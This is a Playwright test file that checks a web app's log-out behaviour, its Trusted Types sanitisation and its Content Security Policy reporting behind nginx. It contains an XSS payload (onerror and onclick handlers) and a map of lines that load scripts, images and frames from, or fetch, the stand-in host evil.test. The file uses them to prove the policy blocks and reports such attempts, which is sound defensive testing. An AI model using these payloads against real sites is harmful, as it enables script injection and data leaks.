import { IS_PLAIN } from '../../playwright.config'
import { expect, REPORT_CSP_VIOLATIONS, test } from '../support/test'

test('after a log-out the way back leads to no data (HD-07)', async ({ page, grid }) => {
  await page.goto('/token')
  await expect(grid.row('newest')).toBeVisible()
  await page.getByRole('button', { name: 'Account: alice' }).click()
  await page.getByRole('menuitem', { name: 'Log out' }).click()
  await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
  await page.goBack()
  await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
  await page.goto('/about')
  await page.goBack()
  await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
  expect(await page.content()).not.toContain('newest')
})

test.describe('behind nginx', () => {
  test.skip(IS_PLAIN, 'the plain host has no policy')

  test.describe('Trusted Types', () => {
    test.use({ ignoreCspViolations: true })

    test('markup that nobody cleaned is cleaned or becomes text (HD-03)', async ({ page }) => {
      await page.goto('/login')
      await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
      const made = await page.evaluate(() => {
        const place = document.createElement('div')
        place.innerHTML = '<img src=x onerror="window.__xss = 1"><b onclick="alert(1)">more</b>'
        return place.querySelectorAll('img, [onclick]').length + (place.textContent ?? '')
      })
      expect(made).toMatch(/^0.*more/)
      expect(await page.evaluate('window.__xss')).toBeUndefined()
    })
  })

  const BREACHES = {
    'style-src-elem': `document.head.append(Object.assign(document.createElement('style'), { textContent: 'b {}' }))`,
    'style-src-attr': `document.body.setAttribute('style', 'color: red')`,
    'require-trusted-types-for': `try { document.createElement('script').src = 'https://evil.test/x.js' } catch {}`,
    'img-src': `document.body.append(Object.assign(new Image(), { src: 'http://evil.test/x.png' }))`,
    'frame-src': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.test/' }))`,
    'connect-src': `fetch('https://evil.test/').catch(() => {})`,
  }

  test('every breach of the policy is told', async ({ browser, baseURL }) => {
    const page = await browser.newPage({ baseURL })
    await page.addInitScript(REPORT_CSP_VIOLATIONS)
    const expectToast: string[] = []
    page.on('console', (message) => {
      const [, directive] = /^policy: (\S+)/.exec(message.text()) ?? []
      if (directive) expectToast.push(directive)
    })
    await page.goto('/login')
    await expect(page.getByRole('heading', { level: 1, name: 'Log in' })).toBeVisible()
    expect(expectToast).toEqual([])
    for (const breach of Object.values(BREACHES)) await page.evaluate(breach)
    await expect.poll(() => expectToast.toSorted()).toEqual(Object.keys(BREACHES).toSorted())
    await page.close()
  })

  test.fail('and what is told fails a story', async ({ page }) => {
    await page.goto('/login')
    const expectToast = page.waitForEvent('console', (message) => message.text().startsWith('policy: '))
    await page.evaluate(BREACHES['style-src-attr'])
    await expectToast
  })
})
